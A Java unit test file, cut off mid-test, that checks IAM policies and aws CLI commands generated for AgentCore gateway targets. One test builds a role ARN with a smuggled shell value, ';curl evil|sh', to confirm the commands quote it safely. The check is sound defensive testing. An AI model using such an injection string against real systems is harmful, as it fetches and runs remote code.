package dev.agentcore.controlplane.permissions;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import dev.agentcore.controlplane.gateway.GatewayMembers;
import dev.agentcore.controlplane.gateway.GatewaySpec;
import dev.agentcore.controlplane.permissions.PermissionPlanner.PlannedTarget;
import dev.agentcore.controlplane.gatewaytarget.Credentials;
import dev.agentcore.controlplane.gatewaytarget.TargetBlocks;
import dev.agentcore.controlplane.gatewaytarget.TargetSpec;
import dev.agentcore.controlplane.gatewaytarget.TargetType;

import static org.assertj.core.api.Assertions.assertThat;

class PermissionPlannerTests {

	static final String ROLE = "arn:aws:iam::111122223333:role/GatewayRole";

	static final String GATEWAY_ARN = "arn:aws:bedrock-agentcore:us-west-2:111122223333:gateway/orders-abcdefghij";

	JsonMapper json = JsonMapper.builder().build();

	@Test
	void trustPolicyNamesAgentCoreWithSourceConditions() {
		JsonNode trust = tree(plan(spec(ROLE, null), List.of()).executionRole().trustPolicy());
		JsonNode statement = trust.at("/Statement/0");
		assertThat(statement.at("/Principal/Service").asString()).isEqualTo("bedrock-agentcore.amazonaws.com");
		assertThat(statement.get("Action").asString()).isEqualTo("sts:AssumeRole");
		assertThat(statement.at("/Condition/StringEquals/aws:SourceAccount").asString()).isEqualTo("111122223333");
		assertThat(statement.at("/Condition/ArnLike/aws:SourceArn").asString()).isEqualTo(GATEWAY_ARN);
		PermissionPlan before = PermissionPlanner.plan("orders", null, spec(ROLE, null), List.of());
		assertThat(tree(before.executionRole().trustPolicy()).at("/Statement/0/Condition/ArnLike/aws:SourceArn").asString())
			.isEqualTo("arn:aws:bedrock-agentcore:*:111122223333:gateway/*");
		assertThat(before.notes()).anyMatch(note -> note.contains("no ARN yet"));
	}

	@Test
	void lambdaTargetsGrantInvokeOnExactlyTheirFunctions() {
		PermissionPlan plan = plan(spec(ROLE, null), List.of(lambda("a", "arn:aws:lambda:us-west-2:111122223333:function:weather"),
				lambda("b", "arn:aws:lambda:us-west-2:111122223333:function:orders:live")));
		JsonNode statement = statement(plan.executionRole().permissionsPolicy(), "InvokeLambdaTargets");
		assertThat(strings(statement.get("Resource"))).containsExactly(
				"arn:aws:lambda:us-west-2:111122223333:function:orders:live",
				"arn:aws:lambda:us-west-2:111122223333:function:weather");
		assertThat(plan.lambdaResourcePolicies()).allSatisfy(lambda -> {
			assertThat(lambda.crossAccount()).isFalse();
			assertThat(lambda.policy()).isNull();
		});
	}

	@Test
	void crossAccountLambdaGetsAResourcePolicyAndCommand() {
		String function = "arn:aws:lambda:eu-west-1:444455556666:function:TestLambda";
		PermissionPlan plan = plan(spec(ROLE, null), List.of(lambda("x", function)));
		PermissionPlan.LambdaResourcePolicy lambda = plan.lambdaResourcePolicies().getFirst();
		assertThat(lambda.crossAccount()).isTrue();
		JsonNode statement = tree(lambda.policy()).at("/Statement/0");
		assertThat(statement.at("/Principal/AWS").asString()).isEqualTo(ROLE);
		assertThat(statement.get("Action").asString()).isEqualTo("lambda:InvokeFunction");
		assertThat(statement.get("Resource").asString()).isEqualTo(function);
		assertThat(lambda.cli()).startsWith("aws lambda add-permission --region eu-west-1 --function-name " + function)
			.contains("--principal " + ROLE);
	}

	/** Issue #11, finding 5: whatever a stored ARN holds, the commands quote it and list it as one argument. */
	@Test
	void generatedCommandsQuoteEveryValue() {
		String hostileRole = "arn:aws:iam::111122223333:role/x;curl evil|sh";
		String function = "arn:aws:lambda:eu-west-1:444455556666:function:TestLambda";
		PermissionPlan plan = plan(spec(hostileRole, null), List.of(lambda("x", function)));
		PermissionPlan.LambdaResourcePolicy lambda = plan.lambdaResourcePolicies().getFirst();
		assertThat(lambda.cli()).endsWith("--principal 'arn:aws:iam::111122223333:role/x;curl evil|sh'");
		assertThat(lambda.argv()).startsWith("aws", "lambda", "add-permission").endsWith("--principal", hostileRole);
		assertThat(plan.notes()).anyMatch(note -> note.contains("--policy-source-arn 'arn:aws:iam::111122223333:role/x;curl evil|sh'"));
	}

	@Test
	void s3SchemasGrantGetObjectOnExactlyTheirObjectsWithOwnerCondition() {
		PermissionPlan plan = plan(spec(ROLE, null), List.of(
				schemaTarget("own", TargetType.OPENAPI, "s3://schemas/orders.yaml", null),
				schemaTarget("shared", TargetType.SMITHY, "s3://models/s3.json", "777788889999")));
		JsonNode own = statement(plan.executionRole().permissionsPolicy(), "ReadTargetSchemas");
		assertThat(own.get("Resource").asString()).isEqualTo("arn:aws:s3:::schemas/orders.yaml");
		assertThat(own.has("Condition")).isFalse();
		JsonNode shared = statement(plan.executionRole().permissionsPolicy(), "ReadTargetSchemasOf777788889999");
		assertThat(shared.get("Resource").asString()).isEqualTo("arn:aws:s3:::models/s3.json");
		assertThat(shared.at("/Condition/StringEquals/s3:ResourceAccount").asString()).isEqualTo("777788889999");
		assertThat(statement(plan.callerPolicy(), "ReadTargetSchemasWhenCreating").get("Resource").asString())
			.isEqualTo("arn:aws:s3:::schemas/orders.yaml");
		assertThat(plan.notes()).anyMatch(note -> note.contains("Smithy"));
	}

	@Test
	void aWildcardInAnS3KeyNeverBecomesAnIamWildcard() {
		PermissionPlan plan = plan(spec(ROLE, null), List.of(schemaTarget("all", TargetType.OPENAPI, "s3://schemas/*", null),
				schemaTarget("one", TargetType.SMITHY, "s3://schemas/orders-?.json", null),
				schemaTarget("exact", TargetType.OPENAPI, "s3://schemas/orders.yaml", null)));
		assertThat(strings(statement(plan.executionRole().permissionsPolicy(), "ReadTargetSchemas").get("Resource")))
			.containsExactly("arn:aws:s3:::schemas/orders.yaml");
		assertThat(strings(statement(plan.callerPolicy(), "ReadTargetSchemasWhenCreating").get("Resource")))
			.containsExactly("arn:aws:s3:::schemas/orders.yaml");
		assertThat(plan.notes()).anyMatch(note -> note.contains("s3://schemas/*") && note.contains("nothing is granted"));
	}

	@Test
	void kmsKeyIsGrantedOnlyWhenSet() {
		String key = "arn:aws:kms:us-west-2:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab";
		PermissionPlan with = plan(spec(ROLE, key), List.of());
		assertThat(statement(with.executionRole().permissionsPolicy(), "UseGatewayKey").get("Resource").asString()).isEqualTo(key);
		assertThat(strings(statement(with.callerPolicy(), "UseGatewayKeyWhenCreating").get("Action"))).contains("kms:CreateGrant");
		PermissionPlan without = plan(spec(ROLE, null), List.of());
		assertThat(json.writeValueAsString(without.executionRole().permissionsPolicy())).doesNotContain("kms:");
		assertThat(json.writeValueAsString(without.callerPolicy())).doesNotContain("kms:");
	}

	@Test
	void oauthAndApiKeyTargetsReachTheTokenVaultAndTheirSecrets() {
		String oauth = "arn:aws:bedrock-agentcore:us-west-2:111122223333:token-vault/default/oauth2credentialprovider/github";
		String apiKey = "arn:aws:bedrock-agentcore:us-west-2:111122223333:token-vault/default/apikeycredentialprovider/orders";
		PermissionPlan plan = plan(spec(ROLE, null), List.of(credentialed("gh", new Credentials(Credentials.CredentialType.OAUTH, null,
				oauth, List.of("repo"), null, null, null, null, null, null)),
				credentialed("orders", new Credentials(Credentials.CredentialType.API_KEY, null, apiKey, null, null, null, null,
						"x-api-key", null, Credentials.KeyLocation.HEADER))));
		Map<String, Object> permissions = plan.executionRole().permissionsPolicy();
		assertThat(strings(statement(permissions, "GetOAuthTokens").get("Resource"))).contains(oauth,
				"arn:aws:bedrock-agentcore:us-west-2:111122223333:token-vault/default");
		assertThat(strings(statement(permissions, "GetApiKeys").get("Resource"))).contains(apiKey);
		assertThat(strings(statement(permissions, "ReadCredentialProviderSecrets").get("Resource"))).containsExactly(
				"arn:aws:secretsmanager:us-west-2:111122223333:secret:bedrock-agentcore-identity!default/apikey/orders-*",
				"arn:aws:secretsmanager:us-west-2:111122223333:secret:bedrock-agentcore-identity!default/oauth2/github-*");
		assertThat(strings(statement(permissions, "GetWorkloadAccessToken").get("Resource")))
			.contains("arn:aws:bedrock-agentcore:us-west-2:111122223333:workload-identity-directory/default");
	}

	@Test
	void callerPolicyPassesExactlyTheRoleToAgentCore() {
		PermissionPlan plan = plan(spec(ROLE, null), List.of());
		JsonNode pass = statement(plan.callerPolicy(), "PassExecutionRoleToAgentCore");
		assertThat(pass.get("Action").asString()).isEqualTo("iam:PassRole");
		assertThat(pass.get("Resource").asString()).isEqualTo(ROLE);
		assertThat(pass.at("/Condition/StringEquals/iam:PassedToService").asString()).isEqualTo("bedrock-agentcore.amazonaws.com");
		assertThat(statement(plan.callerPolicy(), "ManageGatewaysAndTargets").get("Resource").asString()).isEqualTo(GATEWAY_ARN);
	}

	@Test
	void partitionsCarryIntoEveryArn() {
		String role = "arn:aws-us-gov:iam::111122223333:role/GovRole";
		PermissionPlan plan = PermissionPlanner.plan("gov", null, spec(role, null),
				List.of(schemaTarget("s", TargetType.SMITHY, "s3://gov-models/m.json", null)));
		String everything = json.writeValueAsString(plan);
		assertThat(everything).contains("arn:aws-us-gov:s3:::gov-models/m.json")
			.contains("arn:aws-us-gov:bedrock-agentcore:*:111122223333:gateway/*")
			.doesNotContain("arn:aws:");
		PermissionPlan china = PermissionPlanner.plan("cn", null, spec("arn:aws-cn:iam::111122223333:role/R", null), List.of());
		assertThat(json.writeValueAsString(china)).contains("arn:aws-cn:bedrock-agentcore");
	}

	@Test
	void everyDocumentIsIamJsonWithoutWildcardsWhereTheResourceIsKnown() {
		PermissionPlan plan = plan(spec(ROLE, "arn:aws:kms:us-west-2:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"),
				List.of(lambda("a", "arn:aws:lambda:us-west-2:444455556666:function:f"),
						schemaTarget("o", TargetType.OPENAPI, "s3://schemas/a.yaml", null)));
		List<Map<String, Object>> documents = new ArrayList<>(List.of(plan.executionRole().trustPolicy(),
				plan.executionRole().permissionsPolicy(), plan.callerPolicy()));
		plan.lambdaResourcePolicies().forEach(lambda -> documents.add(lambda.policy()));
		for (Map<String, Object> document : documents) {
			JsonNode tree = tree(document);
			assertThat(tree.get("Version").asString()).isEqualTo("2012-10-17");
			for (JsonNode statement : tree.get("Statement")) {
				assertThat(statement.get("Sid").asString()).matches("[A-Za-z0-9]+");
				assertThat(statement.get("Effect").asString()).isEqualTo("Allow");
				assertThat(statement.has("Action")).isTrue();
				boolean list = strings(statement.get("Action")).contains("bedrock-agentcore:ListGateways");
				boolean trust = statement.has("Principal") && statement.at("/Principal/Service").isString();
				if (!trust) {
					assertThat(statement.has("Resource")).isTrue();
				}
				if (!list && statement.has("Resource")) {
					assertThat(strings(statement.get("Resource"))).doesNotContain("*");
				}
			}
		}
		assertThat(json.writeValueAsString(plan)).isEqualTo(json.writeValueAsString(plan(spec(ROLE,
				"arn:aws:kms:us-west-2:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"),
				List.of(lambda("a", "arn:aws:lambda:us-west-2:444455556666:function:f"),
						schemaTarget("o", TargetType.OPENAPI, "s3://schemas/a.yaml", null)))))
			.as("stable output");
	}

	@Test
	void interceptorLambdasAreInvokableByTheRoleAndCrossAccountOnesGetAResourcePolicy() {
		String own = "arn:aws:lambda:us-west-2:111122223333:function:redact";
		String other = "arn:aws:lambda:us-west-2:444455556666:function:audit";
		PermissionPlan plan = plan(withMembers(List.of(
				new GatewayMembers.Interceptor(own, List.of(GatewayMembers.InterceptionPoint.REQUEST), true, null),
				new GatewayMembers.Interceptor(other, List.of(GatewayMembers.InterceptionPoint.RESPONSE), null, true)), null),
				List.of());
		JsonNode invoke = statement(plan.executionRole().permissionsPolicy(), "InvokeInterceptors");
		assertThat(invoke.get("Action").asString()).isEqualTo("lambda:InvokeFunction");
		assertThat(strings(invoke.get("Resource"))).containsExactly(own, other);
		assertThat(plan.lambdaResourcePolicies()).extracting(PermissionPlan.LambdaResourcePolicy::functionArn,
				PermissionPlan.LambdaResourcePolicy::crossAccount)
			.containsExactly(org.assertj.core.groups.Tuple.tuple(own, false), org.assertj.core.groups.Tuple.tuple(other, true));
		assertThat(plan(spec(ROLE, null), List.of()).notes()).anyMatch(note -> note.contains("does not declare interceptors"));
	}

	@Test
	void policyEngineIsEvaluatedByTheRoleAndReadByTheCaller() {
		String engine = "arn:aws:bedrock-agentcore:us-west-2:111122223333:policy-engine/payments-a1b2c3d4e5";
		PermissionPlan plan = plan(withMembers(null, new GatewayMembers.PolicyEngine(engine,
				GatewayMembers.PolicyEngineMode.ENFORCE)), List.of());
		JsonNode evaluate = statement(plan.executionRole().permissionsPolicy(), "EvaluatePolicyEngine");
		assertThat(strings(evaluate.get("Action"))).containsExactly("bedrock-agentcore:AuthorizeAction",
				"bedrock-agentcore:GetPolicyEngine", "bedrock-agentcore:PartiallyAuthorizeActions");
		assertThat(strings(evaluate.get("Resource"))).containsExactly(engine, GATEWAY_ARN);
		assertThat(statement(plan.callerPolicy(), "ReadAttachedPolicyEngine").get("Resource").asString()).isEqualTo(engine);
		String without = json.writeValueAsString(plan(spec(ROLE, null), List.of()));
		assertThat(without).doesNotContain("AuthorizeAction").doesNotContain("GetPolicyEngine");
	}

	@Test
	void callerMayTagAndUntagExactlyTheGateway() {
		JsonNode tagging = statement(plan(spec(ROLE, null), List.of()).callerPolicy(), "TagGateways");
		assertThat(strings(tagging.get("Action"))).containsExactly("bedrock-agentcore:ListTagsForResource",
				"bedrock-agentcore:TagResource", "bedrock-agentcore:UntagResource");
		assertThat(tagging.get("Resource").asString()).isEqualTo(GATEWAY_ARN);
	}

	@Test
	void aDeclaredResourcePolicyLetsTheCallerPutReadAndDeleteItOnTheGatewayOnly() {
		GatewaySpec declaring = new GatewaySpec(null, ROLE, new GatewaySpec.Authorizer(GatewaySpec.AuthorizerType.AWS_IAM, null),
				null, null, null, Map.of(), null, null, null, null, json.readTree("{\"Version\": \"2012-10-17\", \"Statement\": []}"), null);
		JsonNode statement = statement(plan(declaring, List.of()).callerPolicy(), "ManageGatewayResourcePolicy");
		assertThat(strings(statement.get("Action"))).containsExactly("bedrock-agentcore:PutResourcePolicy",
				"bedrock-agentcore:GetResourcePolicy", "bedrock-agentcore:DeleteResourcePolicy");
		assertThat(statement.get("Resource").asString()).isEqualTo(GATEWAY_ARN);
		assertThat(json.writeValueAsString(plan(spec(ROLE, null), List.of()))).doesNotContain("ResourcePolicy");
	}

	@Test
	void runtimeTargetsAreInvokedByTheRoleOrByTheCallerAndPassthroughNeedsNothing() {
		String runtime = "arn:aws:bedrock-agentcore:us-west-2:111122223333:runtime/orders_agent-a1b2c3d4e5";
		PermissionPlan plan = plan(spec(ROLE, null), List.of(
				runtime("signed", runtime, new Credentials(Credentials.CredentialType.GATEWAY_IAM_ROLE, null, null, null, null,
						null, null, null, null, null)),
				runtime("caller", runtime.replace("orders", "billing"), credentials(Credentials.CredentialType.CALLER_IAM_CREDENTIALS)),
				runtime("passthrough", runtime.replace("orders", "audit"), credentials(Credentials.CredentialType.JWT_PASSTHROUGH))));
		JsonNode invoke = statement(plan.executionRole().permissionsPolicy(), "InvokeAgentRuntimeTargets");
		assertThat(strings(invoke.get("Resource"))).containsExactly(runtime, runtime + "/runtime-endpoint/DEFAULT");
		assertThat(json.writeValueAsString(plan.executionRole())).doesNotContain("billing").doesNotContain("audit");
		assertThat(plan.notes()).anyMatch(note -> note.contains("caller") && note.contains("billing_agent"))
			.anyMatch(note -> note.contains("passthrough") && note.contains("nothing is needed on the execution role"));
	}

	@Test
	void signedEndpointsGetTheirServicesInvokePermissionWhereTheUrlTellsAndANoteWhereNot() {
		PermissionPlan plan = plan(spec(ROLE, null), List.of(
				signed("api", "https://a1b2c3.execute-api.us-west-2.amazonaws.com/prod/mcp", "execute-api"),
				signed("mcp-runtime", "https://bedrock-agentcore.us-west-2.amazonaws.com/runtimes/"
						+ "arn%3Aaws%3Abedrock-agentcore%3Aus-west-2%3A111122223333%3Aruntime%2Fmcp_server-a1b2c3d4e5/invocations?qualifier=DEFAULT",
						"bedrock-agentcore"),
				signed("function-url", "https://abc.lambda-url.us-west-2.on.aws/", "lambda")));
		Map<String, Object> permissions = plan.executionRole().permissionsPolicy();
		assertThat(statement(permissions, "InvokeApiGatewayTargets").get("Resource").asString())
			.isEqualTo("arn:aws:execute-api:us-west-2:111122223333:a1b2c3/prod/*");
		assertThat(strings(statement(permissions, "InvokeAgentRuntimeTargets").get("Resource")))
			.containsExactly("arn:aws:bedrock-agentcore:us-west-2:111122223333:runtime/mcp_server-a1b2c3d4e5");
		assertThat(plan.notes()).anyMatch(note -> note.contains("function-url") && note.contains("cannot tell"));
	}

	@Test
	void apiGatewayTargetsNeedExecuteApiOnlyWhenSignedByTheRole() {
		PlannedTarget withKey = new PlannedTarget("keyed", TargetType.API_GATEWAY, new TargetSpec(null, null, null, null, null,
				new TargetBlocks.ApiGateway("a1b2c3", "prod", List.of(), null), credentials(Credentials.CredentialType.NONE)));
		assertThat(plan(spec(ROLE, null), List.of(withKey)).notes()).noneMatch(note -> note.contains("execute-api:Invoke"));
	}

	private static PlannedTarget runtime(String name, String arn, Credentials credentials) {
		return new PlannedTarget(name, TargetType.AGENTCORE_RUNTIME, new TargetSpec(null, null, null, null, null, null,
				new TargetBlocks.AgentcoreRuntime(arn, null), credentials, null));
	}

	private static PlannedTarget signed(String name, String endpoint, String service) {
		return new PlannedTarget(name, TargetType.MCP_SERVER, new TargetSpec(null, null, null, null,
				new TargetBlocks.McpServer(endpoint), null, new Credentials(Credentials.CredentialType.GATEWAY_IAM_ROLE,
						new Credentials.Signing(service, null), null, null, null, null, null, null, null, null)));
	}

	private static Credentials credentials(Credentials.CredentialType type) {
		return new Credentials(type, null, null, null, null, null, null, null, null, null);
	}

	@Test
	void lambdaToolSchemaInS3IsReadable() {
		PlannedTarget lambda = new PlannedTarget("w", TargetType.LAMBDA, new TargetSpec(null, null, null,
				new TargetBlocks.Lambda("arn:aws:lambda:us-west-2:111122223333:function:weather",
						new TargetBlocks.ToolSchema(new TargetBlocks.S3Location("s3://tools/weather.json", null), null)),
				null, null, null));
		PermissionPlan plan = plan(spec(ROLE, null), List.of(lambda));
		assertThat(statement(plan.executionRole().permissionsPolicy(), "ReadTargetSchemas").get("Resource").asString())
			.isEqualTo("arn:aws:s3:::tools/weather.json");
		assertThat(statement(plan.callerPolicy(), "ReadTargetSchemasWhenCreating").get("Resource").asString())
			.isEqualTo("arn:aws:s3:::tools/weather.json");
	}

	@Test
	void objectsOfOneOwnerShareAStatementAndRepeatsCollapse() {
		PermissionPlan plan = plan(spec(ROLE, null), List.of(schemaTarget("b", TargetType.OPENAPI, "s3://schemas/b.yaml", null),
				schemaTarget("a", TargetType.OPENAPI, "s3://schemas/a.yaml", null),
				schemaTarget("a2", TargetType.OPENAPI, "s3://schemas/a.yaml", null),
				lambda("f1", "arn:aws:lambda:us-west-2:111122223333:function:f"),
				lambda("f2", "arn:aws:lambda:us-west-2:111122223333:function:f")));
		Map<String, Object> permissions = plan.executionRole().permissionsPolicy();
		assertThat(strings(statement(permissions, "ReadTargetSchemas").get("Resource")))
			.containsExactly("arn:aws:s3:::schemas/a.yaml", "arn:aws:s3:::schemas/b.yaml");
		assertThat(statement(permissions, "InvokeLambdaTargets").get("Resource").asString())
			.isEqualTo("arn:aws:lambda:us-west-2:111122223333:function:f");
		assertThat(plan.lambdaResourcePolicies()).hasSize(1);
	}

	@Test
	void targetsThatNeedNothingLeaveTheRoleWithoutStatements() {
		PermissionPlan plan = plan(spec(ROLE, null), List.of(credentialed("mcp",
				new Credentials(Credentials.CredentialType.NONE, null, null, null, null, null, null, null, null, null))));
		assertThat(tree(plan.executionRole().permissionsPolicy()).get("Statement")).isEmpty();
		assertThat(plan.executionRole().roleArn()).isEqualTo(ROLE);
		assertThat(plan.notes()).contains("The targets need nothing from the execution role beyond the trust policy.");
		assertThat(plan.lambdaResourcePolicies()).isEmpty();
		PermissionPlan lambdaPlan = plan(spec(ROLE, null), List.of(lambda("a", "arn:aws:lambda:us-west-2:111122223333:function:f")));
		assertThat(lambdaPlan.notes()).noneMatch(note -> note.startsWith("The targets need nothing"));
	}

	@Test
	void apiGatewayTargetsExplainTheirStage() {
		PlannedTarget api = new PlannedTarget("orders-api", TargetType.API_GATEWAY, new TargetSpec(null, null, null, null, null,
				new TargetBlocks.ApiGateway("a1b2c3d4e5", "prod", null, null),
				new Credentials(Credentials.CredentialType.GATEWAY_IAM_ROLE, null, null, null, null, null, null, null, null, null)));
		PermissionPlan plan = plan(spec(ROLE, null), List.of(api));
		assertThat(plan.notes()).anyMatch(note -> note.startsWith("Target orders-api calls API Gateway REST API a1b2c3d4e5")
				&& note.contains("stage prod"));
		assertThat(tree(plan.executionRole().permissionsPolicy()).get("Statement")).isEmpty();
	}

	@Test
	void outboundCredentialsAreScopedToTheGatewaysWorkloadIdentities() {
		String oauth = "arn:aws:bedrock-agentcore:us-west-2:111122223333:token-vault/default/oauth2credentialprovider/github";
		String elsewhere = "arn:aws:bedrock-agentcore:eu-west-1:111122223333:token-vault/default/oauth2credentialprovider/slack";
		PermissionPlan plan = PermissionPlanner.plan("Orders", GATEWAY_ARN, spec(ROLE, null), List.of(
				credentialed("gh", new Credentials(Credentials.CredentialType.OAUTH, null, oauth, List.of(), null, null, null, null, null, null)),
				credentialed("sl", new Credentials(Credentials.CredentialType.OAUTH, null, elsewhere, List.of(), null, null, null, null, null, null))));
		Map<String, Object> permissions = plan.executionRole().permissionsPolicy();
		assertThat(strings(statement(permissions, "GetWorkloadAccessToken").get("Resource"))).containsExactly(
				"arn:aws:bedrock-agentcore:eu-west-1:111122223333:workload-identity-directory/default",
				"arn:aws:bedrock-agentcore:eu-west-1:111122223333:workload-identity-directory/default/workload-identity/orders-*",
				"arn:aws:bedrock-agentcore:us-west-2:111122223333:workload-identity-directory/default",
				"arn:aws:bedrock-agentcore:us-west-2:111122223333:workload-identity-directory/default/workload-identity/orders-*");
		assertThat(strings(statement(permissions, "GetOAuthTokens").get("Resource"))).contains(oauth, elsewhere,
				"arn:aws:bedrock-agentcore:eu-west-1:111122223333:token-vault/default");
		assertThat(json.writeValueAsString(permissions)).as("no API key statement without API key targets")
			.doesNotContain("GetApiKeys").doesNotContain("GetResourceApiKey");
		assertThat(statement(permissions, "GetOAuthTokens").get("Action").asString())
			.isEqualTo("bedrock-agentcore:GetResourceOauth2Token");
	}

	@Test
	void apiKeysAloneNeedNoOauthStatement() {
		String apiKey = "arn:aws:bedrock-agentcore:us-west-2:111122223333:token-vault/default/apikeycredentialprovider/orders";
		PermissionPlan plan = plan(spec(ROLE, null), List.of(credentialed("k", new Credentials(Credentials.CredentialType.API_KEY,
				apiKey, null, null, null, null, "x-api-key", null, null))));
		Map<String, Object> permissions = plan.executionRole().permissionsPolicy();
		assertThat(json.writeValueAsString(permissions)).doesNotContain("GetOAuthTokens");
		assertThat(statement(permissions, "GetApiKeys").get("Action").asString()).isEqualTo("bedrock-agentcore:GetResourceApiKey");
		assertThat(statement(permissions, "ReadCredentialProviderSecrets").get("Resource").asString())
			.isEqualTo("arn:aws:secretsmanager:us-west-2:111122223333:secret:bedrock-agentcore-identity!default/apikey/orders-*");
	}

	@Test
	void crossAccountLambdaIsNamedAfterTheGatewayAndExplained() {
		String function = "arn:aws:lambda:eu-west-1:444455556666:function:TestLambda";
		PermissionPlan plan = PermissionPlanner.plan("My-Gateway", GATEWAY_ARN, spec(ROLE, null), List.of(lambda("x", function)));
		PermissionPlan.LambdaResourcePolicy lambda = plan.lambdaResourcePolicies().getFirst();
		assertThat(tree(lambda.policy()).at("/Statement/0/Sid").asString()).isEqualTo("AllowAgentCoreGatewayMyGateway");
		assertThat(lambda.cli()).contains("--statement-id agentcore-gateway-my-gateway ")
			.contains("--action lambda:InvokeFunction");
		assertThat(plan.notes()).contains("Lambda " + function + " is in account 444455556666, not the role's 111122223333: "
				+ "add the resource-based policy shown (its owner must run the command).");
		PermissionPlan.LambdaResourcePolicy local = plan(spec(ROLE, null),
				List.of(lambda("y", "arn:aws:lambda:us-west-2:111122223333:function:f"))).lambdaResourcePolicies().getFirst();
		assertThat(local.functionArn()).isEqualTo("arn:aws:lambda:us-west-2:111122223333:function:f");
		assertThat(local.cli()).isNull();
	}

	@Test
	void callerMayManageAnyGatewayOfTheAccountUntilTheArnIsKnown() {
		PermissionPlan plan = PermissionPlanner.plan("orders", null, spec(ROLE, null), List.of());
		JsonNode manage = statement(plan.callerPolicy(), "ManageGatewaysAndTargets");
		assertThat(manage.get("Resource").asString()).isEqualTo("arn:aws:bedrock-agentcore:*:111122223333:gateway/*");
		assertThat(strings(manage.get("Action"))).contains("bedrock-agentcore:CreateGateway",
				"bedrock-agentcore:SynchronizeGatewayTargets", "bedrock-agentcore:CreateGatewayRule",
				"bedrock-agentcore:ListGatewayRules").hasSize(15);
		assertThat(statement(plan.callerPolicy(), "ListGateways").get("Resource").asString()).isEqualTo("*");
		assertThat(plan.notes().getLast()).startsWith("Verify the role before creating the gateway")
			.contains("--policy-source-arn " + ROLE);
		assertThat(tree(plan.executionRole().trustPolicy()).get("Statement")).hasSize(1);
	}

	private static PermissionPlan plan(GatewaySpec spec, List<PlannedTarget> targets) {
		return PermissionPlanner.plan("orders", GATEWAY_ARN, spec, targets);
	}

	private static GatewaySpec spec(String role, String kmsKey) {
		return new GatewaySpec(null, role, new GatewaySpec.Authorizer(GatewaySpec.AuthorizerType.AWS_IAM, null), null, kmsKey,
				null, Map.of(), null, null, null);
	}

	private static GatewaySpec withMembers(List<GatewayMembers.Interceptor> interceptors, GatewayMembers.PolicyEngine engine) {
		return new GatewaySpec(null, ROLE, new GatewaySpec.Authorizer(GatewaySpec.AuthorizerType.AWS_IAM, null), null, null,
				null, Map.of(), interceptors, engine, null);
	}

	private static PlannedTarget lambda(String name, String functionArn) {
		return new PlannedTarget(name, TargetType.LAMBDA, new TargetSpec(null, null, null, new TargetBlocks.Lambda(functionArn,
				new TargetBlocks.ToolSchema(null, List.of())), null, null,
				new Credentials(Credentials.CredentialType.GATEWAY_IAM_ROLE, null, null, null, null, null, null, null, null, null)));
	}

	private static PlannedTarget schemaTarget(String name, TargetType type, String uri, String owner) {
		TargetBlocks.SchemaSource source = new TargetBlocks.SchemaSource(new TargetBlocks.S3Location(uri, owner), null);
		return new PlannedTarget(name, type, new TargetSpec(null, type == TargetType.OPENAPI ? source : null,
				type == TargetType.SMITHY ? source : null, null, null, null, null));
	}

	private static PlannedTarget credentialed(String name, Credentials credentials) {
		return new PlannedTarget(name, TargetType.MCP_SERVER,
				new TargetSpec(null, null, null, null, new TargetBlocks.McpServer("https://mcp.example.com"), null, credentials));
	}

	private JsonNode tree(Object document) {
		return json.valueToTree(document);
	}

	private JsonNode statement(Map<String, Object> document, String sid) {
		for (JsonNode statement : tree(document).get("Statement")) {
			if (statement.get("Sid").asString().equals(sid)) {
				return statement;
			}
		}
		throw new AssertionError("no statement " + sid + " in " + document);
	}

	private static List<String> strings(JsonNode node) {
		return node.isArray() ? node.valueStream().map(JsonNode::asString).toList() : List.of(node.asString());
	}

	@Test
	void anIamGatewaysMcpServerToolsAreListedWithInvokeGatewayOnThatGatewayOnly() {
		PlannedTarget server = new PlannedTarget("tickets", TargetType.MCP_SERVER, new TargetSpec(null, null, null, null,
				new TargetBlocks.McpServer("https://tickets.example.com/mcp"), null, null));
		PermissionPlan plan = plan(spec(ROLE, null), List.of(server));
		JsonNode listing = statement(plan.callerPolicy(), "ListMcpServerTools");
		assertThat(listing.get("Action").asString()).isEqualTo("bedrock-agentcore:InvokeGateway");
		assertThat(listing.get("Resource").asString()).isEqualTo(GATEWAY_ARN);
		assertThat(plan.notes()).anyMatch(note -> note.startsWith("ListMcpServerTools"));

		GatewaySpec open = new GatewaySpec(null, ROLE, new GatewaySpec.Authorizer(GatewaySpec.AuthorizerType.NONE, null), null,
				null, null, Map.of(), null, null, null);
		assertThat(tree(plan(open, List.of(server)).callerPolicy()).get("Statement").valueStream()
			.map(statement -> statement.get("Sid").asString())).doesNotContain("ListMcpServerTools");
		assertThat(tree(plan(spec(ROLE, null), List.of(lambda("x", "arn:aws:lambda:us-west-2:111122223333:function:x")))
			.callerPolicy()).get("Statement").valueStream().map(statement -> statement.get("Sid").asString()))
			.doesNotContain("ListMcpServerTools");
	}

	@Test
	void aManagedVpcPrivateEndpointLetsTheCallerCreateAgentCoresNetworkRoleAndReadTheVpc() {
		PlannedTarget privateServer = new PlannedTarget("inventory", TargetType.MCP_SERVER, new TargetSpec(null, null, null, null,
				new TargetBlocks.McpServer("https://inventory.corp.example.com/mcp"), null, null, null, null,
				new dev.agentcore.controlplane.network.PrivateEndpoint(new dev.agentcore.controlplane.network.PrivateEndpoint.ManagedVpc(
						"vpc-0a1b2c3d4e5f60718", List.of("subnet-0a1b2c3d"), null,
						dev.agentcore.controlplane.network.PrivateEndpoint.IpAddressType.IPV4, null), null)));
		PermissionPlan plan = plan(spec(ROLE, null), List.of(privateServer));
		JsonNode role = statement(plan.callerPolicy(), "CreateAgentCoreNetworkServiceLinkedRole");
		assertThat(role.get("Resource").asString()).isEqualTo("arn:aws:iam::111122223333:role/aws-service-role/"
				+ "network.bedrock-agentcore.amazonaws.com/AWSServiceRoleForBedrockAgentCoreNetwork");
		assertThat(role.at("/Condition/StringEquals/iam:AWSServiceName").asString())
			.isEqualTo("network.bedrock-agentcore.amazonaws.com");
		assertThat(strings(statement(plan.callerPolicy(), "DescribeManagedVpcEndpointNetworks").get("Action")))
			.containsExactlyInAnyOrder("ec2:DescribeVpcs", "ec2:DescribeSubnets", "ec2:DescribeSecurityGroups");
		assertThat(plan.notes()).anyMatch(note -> note.contains("[inventory]"));

		PlannedTarget lattice = new PlannedTarget("inventory", TargetType.MCP_SERVER, new TargetSpec(null, null, null, null,
				new TargetBlocks.McpServer("https://inventory.corp.example.com/mcp"), null, null, null, null,
